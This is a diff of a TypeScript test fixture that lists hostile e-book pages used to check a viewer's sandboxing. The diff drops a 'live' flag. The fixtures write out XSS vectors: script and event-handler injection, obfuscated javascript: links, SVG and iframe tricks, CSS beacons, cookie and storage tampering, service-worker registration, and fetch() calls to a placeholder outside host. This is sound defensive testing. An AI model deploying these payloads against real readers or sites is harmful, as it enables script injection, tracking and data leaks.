@@ -23,8 +23,6 @@ export interface HostileBook {
   packageBefore?: string;
   /** Refused as a whole: its message stands instead of its text. */
   refused?: true;
-  /** Opened by itself in this browser, without the viewer, it does call the stranger: the attack is a real one. */
-  live?: true;
 }
 
 export const QUIET = "静かな本文";
@@ -42,74 +40,62 @@ export const hostileBooks = (out: string): readonly HostileBook[] => [
 ];
 
 const running = (out: string): HostileBook[] => [
-  { name: "a script in the page", head: script(out), live: true },
+  { name: "a script in the page", head: script(out) },
   {
     name: "a script of the book",
     head: '<script src="s.js"></script>',
     parts: { "s.js": ["text/javascript", ran(out)] },
-    live: true,
   },
-  { name: "a script from elsewhere", head: `<script src="${out}/s.js"></script>`, live: true },
-  { name: "a module", head: `<script type="module">import "${out}/m.js";</script>`, live: true },
+  { name: "a script from elsewhere", head: `<script src="${out}/s.js"></script>` },
+  { name: "a module", head: `<script type="module">import "${out}/m.js";</script>` },
   {
     name: "a script under a prefix",
     body: `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${ran(out)}</x:script>`,
-    live: true,
   },
   {
     name: "a handler of load",
     body: `<img src="none.png" onerror="${ran(out)}" alt=""/><svg ${SVG} onload="${ran(out)}"/>`,
-    live: true,
   },
   {
     name: "handlers that need nobody",
     head: "<style>@keyframes k{from{left:0}}</style>",
     body: `<p style="animation:k 1ms" onanimationstart="${ran(out)}">a</p><input autofocus="" onfocus="${ran(out)}"/><details open="" ontoggle="${ran(out)}"><p>b</p></details>`,
-    live: true,
   },
   {
     name: "a link that is a script",
     body: `<a data-press="" href="javascript:void(fetch('${out}/press'))">押す</a>`,
-    live: true,
   },
   {
     name: "a link that hides that it is a script",
     body: `<a data-press="" href=" java&#10;script&#9;:void(fetch('${out}/press'))">押す</a>`,
-    live: true,
   },
-  { name: "a drawing with a script", body: drawing(out), live: true },
+  { name: "a drawing with a script", body: drawing(out) },
   {
     name: "a drawing that is the page",
     page: {
       type: "image/svg+xml",
       text: `<svg ${SVG} ${XLINK} viewBox="0 0 200 20" onload="${ran(out)}">${script(out)}<text y="15">${QUIET}</text></svg>`,
     },
-    live: true,
   },
   {
     name: "a link that a drawing makes a script",
     body: `<svg ${SVG} ${XLINK} width="99" height="40"><a data-press=""><animate attributeName="href" values="javascript:void(fetch('${out}/press'))" dur="1ms" fill="freeze"/><set attributeName="xlink:href" to="javascript:void(fetch('${out}/press'))"/><text y="20">押す</text></a></svg>`,
-    live: true,
   },
   {
     name: "a page within a drawing",
     body: `<svg ${SVG} width="99" height="40"><foreignObject width="99" height="40"><iframe ${HTML} src="${out}/frame"></iframe></foreignObject></svg>`,
-    live: true,
   },
   {
     name: "a drawing used from elsewhere",
     body: `<svg ${SVG} ${XLINK}><use href="${out}/d.svg#a"/><use xlink:href="data:image/svg+xml;base64,${Buffer.from(drawing(out)).toString("base64")}#a"/><image href="${out}/i.png"/></svg>`,
-    live: true,
   },
   {
     name: "a frame with a page in its attribute",
     body: `<iframe srcdoc="&lt;script&gt;${ran(out)}&lt;/script&gt;"></iframe>`,
-    live: true,
   },
   {
     name: "a frame with a page in its address",
     body: `<iframe src="data:text/html,&lt;script&gt;${ran(out)}&lt;/script&gt;"></iframe>`,
-    live: true,
   },
   {
     name: "markup that changes when it is mended",
@@ -131,52 +117,44 @@ const running = (out: string): HostileBook[] => [
 ];
 
 const phoning = (out: string): HostileBook[] => [
-  { name: "a refresh to elsewhere", head: `<meta http-equiv="refresh" content="0;url=${out}/refresh"/>`, live: true },
-  { name: "a frame of elsewhere", body: `<iframe src="${out}/frame"></iframe>`, live: true },
-  { name: "objects", body: `<object data="${out}/o"></object><embed src="${out}/e"/>`, live: true },
+  { name: "a refresh to elsewhere", head: `<meta http-equiv="refresh" content="0;url=${out}/refresh"/>` },
+  { name: "a frame of elsewhere", body: `<iframe src="${out}/frame"></iframe>` },
+  { name: "objects", body: `<object data="${out}/o"></object><embed src="${out}/e"/>` },
   {
     name: "a base of elsewhere",
     head: `<base href="${out}/"/>`,
     body: '<img src="i.png" alt=""/><a href="x.xhtml">次</a>',
-    live: true,
   },
   {
     name: "links that fetch before",
     head: `<link rel="prefetch" href="${out}/p"/><link rel="preconnect" href="${out}"/><link rel="dns-prefetch" href="${out}"/><link rel="modulepreload" href="${out}/m.js"/><link rel="icon" href="${out}/i.png"/><link rel="preload" as="image" href="${out}/i.png"/>`,
-    live: true,
   },
   {
     name: "a style sheet that connects before",
     head: `<link rel="stylesheet preconnect preload" as="style" href="${out}/s.css"/>`,
-    live: true,
   },
   {
     name: "pictures and sounds of elsewhere",
     body: `<img src="${out}/i.png" alt=""/><img srcset="${out}/i2.png 2x" alt=""/><picture><source srcset="${out}/i3.png"/><img alt=""/></picture><video poster="${out}/v.png" src="${out}/v.mp4" autoplay=""></video><audio src="${out}/a.mp3" autoplay=""></audio>`,
-    live: true,
   },
   {
     name: "letters of elsewhere",
     head: `<style>@font-face{font-family:f;src:url(${out}/f.woff2)} p{font-family:f}</style><link rel="stylesheet" href="f.css"/>`,
     parts: { "f.css": ["text/css", `@font-face{font-family:g;src:url("${out}/g.woff")} body{font-family:g}`] },
-    live: true,
   },
   {
     name: "style sheets of elsewhere",
     head: `<style>@import url("${out}/s.css");</style><link rel="stylesheet" href="${out}/t.css"/><link rel="stylesheet" href="i.css"/>`,
     parts: { "i.css": ["text/css", `@import "${out}/u.css"; @import url(${out}/v.css) screen;`] },
-    live: true,
   },
   {
     name: "styles that tell",
     head: `<style>body{background:url(${out}/b.png);cursor:url(${out}/c.cur),auto} p{list-style:url(${out}/l.png)} p::before{content:url(${out}/k.png)} a[href^="x"]{background:image-set("${out}/x.png" 1x)} *{--u:url(${out}/u.png);border-image:var(--u)}</style>`,
     body: '<a href="x.xhtml" style="mask:url(#m)">次</a>',
-    live: true,
   },
   {
     name: "instructions before the page",
     before: `<?xml-stylesheet href="${out}/s.css" type="text/css"?><?xml-stylesheet href="${out}/x.xsl" type="text/xsl"?>`,
-    live: true,
   },
   {
     name: "entities of elsewhere",
@@ -211,34 +189,28 @@ const leaving = (out: string): HostileBook[] => [
   {
     name: "forms",
     body: `<form action="${out}/form" method="post" target="_top"><input name="a" value="b"/><button data-press="">送る</button></form><form><button formaction="${out}/formaction" data-press="">送る</button></form>`,
-    live: true,
   },
   {
     name: "a link that takes the whole window",
     body: `<a data-press="" href="inner.xhtml#x" target="_top" ping="${out}/ping">押す</a>`,
     parts: { "inner.xhtml": ["application/xhtml+xml", `<html ${HTML}><body><p>中</p></body></html>`] },
-    live: true,
   },
   {
     name: "a script that takes the whole window",
     head: `<script>top.location='${out}/top';parent.location='${out}/parent'</script>`,
-    live: true,
   },
-  { name: "windows", head: `<script>open('${out}/window');top.open('${out}/window2')</script>`, live: true },
+  { name: "windows", head: `<script>open('${out}/window');top.open('${out}/window2')</script>` },
   {
     name: "messages to the program",
     head: `<script>parent.postMessage({keep:['/x']},'*');top.postMessage('x','*');fetch('${out}/sent')</script>`,
-    live: true,
   },
   {
     name: "a worker for the whole site",
     head: `<script>navigator.serviceWorker.register('/evil.js');new Worker('${out}/w.js');new SharedWorker('${out}/w.js');fetch('${out}/sent')</script>`,
-    live: true,
   },
   {
     name: "a hand in what the browser keeps",
     head: `<script>document.cookie='evil=1';localStorage.evil='1';indexedDB.open('evil');caches.open('evil');fetch('${out}/sent')</script>`,
-    live: true,
   },
   {
     name: "a page over the program",
